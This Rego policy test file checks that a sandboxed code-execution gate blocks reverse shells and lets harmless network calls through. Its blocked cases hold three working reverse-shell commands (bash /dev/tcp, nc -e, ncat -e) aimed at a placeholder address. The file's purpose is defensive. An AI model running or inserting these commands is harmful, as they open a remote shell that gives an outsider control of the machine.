package team.exec_test

import data.team.exec

call(argv) := {
	"input_version": 1,
	"kind": "exec",
	"address": "exec/python/acme/s-1",
	"exec": {"op": "run", "argv": argv, "language": "", "code": ""},
	"template": {"name": "python"},
	"tenant": {"tenant_id": "acme", "session_id": "s-1"},
	"backend": {"scheme": "docker"},
	"network": {"egress": "deny", "allow": []},
	"analysers": {},
}

code(text) := object.union(call([]), {"exec": {"op": "run_code", "argv": [], "language": "bash", "code": text, "source": {"language": "bash", "text": text}}})

ids(fs) := {f.id | some f in fs}

test_reverse_shell_blocked if {
	every inp in [
		call(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]),
		call(["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]),
		code("ncat 203.0.113.9 4444 -e /bin/bash"),
	] {
		fs := exec.block with input as inp
		ids(fs) == {"TEAM-EXE-001"}
	}
}

test_plain_network_use_accepted if {
	every inp in [
		call(["nc", "-z", "db.internal", "5432"]),
		call(["sh", "-c", "echo ok > /dev/null"]),
		code("curl -fsS https://api.internal/health"),
	] {
		count(exec.block) == 0 with input as inp
	}
}
